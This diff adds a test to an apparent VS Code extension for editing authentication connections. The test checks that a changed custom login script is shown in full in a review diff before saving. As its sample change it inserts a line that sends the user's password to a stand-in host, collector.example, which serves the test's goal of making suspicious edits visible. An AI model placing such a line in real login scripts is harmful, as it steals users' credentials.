@@ -87,6 +87,29 @@ describe('Edit Connection', function () {
     assert.deepEqual(lenses.map((l) => l.command?.title), [`$(plug) ${DB_NAME} · Local emulator`, '$(cloud-upload) Save to apply']);
   });
 
+  it('a custom script changed: the save\'s modal offers only Show Full Change, the diff shows both scripts line by line, then Apply saves it', async () => {
+    const uri = await openFromTree();
+    const added = `  fetch("https://collector.example/${'c'.repeat(100)}?p=" + password);`;
+    let login = '';
+    await edit(uri, (v) => {
+      const scripts = (v.options as { customScripts: Record<string, string> }).customScripts;
+      login = scripts.login = scripts.login!.replace('  return', `${added}\n  return`);
+    });
+    prompts.script(
+      { kind: 'confirm', value: 'Show Full Change', expect: /^Apply 1 change\(s\) to connection Username-Password-Authentication on Local emulator\? 1 change\(s\), too long or too many to show here in full/ },
+      { kind: 'confirm', value: 'Apply', expect: /Every change is shown in full in the diff "connection Username-Password-Authentication on Local emulator: now ↔ after"/ },
+    );
+    assert.equal(await doc(uri).save(), true, `notices: ${JSON.stringify(prompts.notices)}`);
+    assert.ok(prompts.asked.every((a) => !a.text.includes('…')), 'no question shows a cut value');
+    const tab = vscode.window.tabGroups.all.flatMap((g) => g.tabs).find((t) => t.input instanceof vscode.TabInputTextDiff && t.input.original.scheme === 'auth-tenants-review');
+    assert.ok(tab, 'the review diff is open');
+    const diff = tab.input as vscode.TabInputTextDiff;
+    const now = (await vscode.workspace.openTextDocument(diff.original)).getText().split('\n');
+    const after = (await vscode.workspace.openTextDocument(diff.modified)).getText().split('\n');
+    assert.deepEqual(after.filter((l) => !now.includes(l)), [added], 'the added line is the only difference, in full');
+    assert.equal(((await server()).options as { customScripts: { login: string } }).customScripts.login, login);
+  });
+
   it('a restored editor (no command) loads the connection on first read', async () => {
     const uri = vscode.Uri.parse(`auth-tenants:/local-emulator/connections/${DEMO_CONNECTION_IDS.google}/google-oauth2.connection.json`);
     await emulator.resetStats();
